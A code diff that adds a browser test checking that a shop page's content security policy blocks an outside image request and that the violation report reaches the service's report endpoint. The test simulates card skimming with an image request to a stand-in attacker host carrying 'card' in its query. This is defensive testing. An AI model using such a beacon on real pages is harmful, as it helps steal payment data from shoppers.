@@ -1,3 +1,4 @@
+import { readViolations } from '../../functions/core/domain/page-watch/violations.ts';
 import { type Florin, startFlorin } from '../api/support/florin.ts';
 import { world } from '../api/support/world.ts';
 import {
@@ -55,6 +56,21 @@ test('the content security policy only permits the page’s scripts, requests an
     });
     expect(policyOf(await headersOf(url))['script-src']).not.toBe(policy['script-src']);
   }
+});
+
+test('a browser reports an address that the policy blocks, and Florin receives the report', async () => {
+  const { merchant } = await here.shop();
+  // The first page would complain about the blocked picture.
+  const page = await (await openPage()).context().newPage();
+  await page.goto(linkOf(merchant));
+  const received = page.waitForResponse((response) => response.url().endsWith('/csp-reports'));
+  await page.evaluate(() => {
+    new Image().src = 'https://thief.example/x.png?card';
+  });
+  const response = await received;
+  expect(response.status()).toBe(204);
+  const report = JSON.parse(response.request().postData() ?? '{}');
+  expect(readViolations(report)).toEqual([{ directive: 'img-src', blocked: 'https://thief.example' }]);
 });
 
 test('browsers cache the page’s files, named by hash, for ever, and the SDK for an hour', async () => {
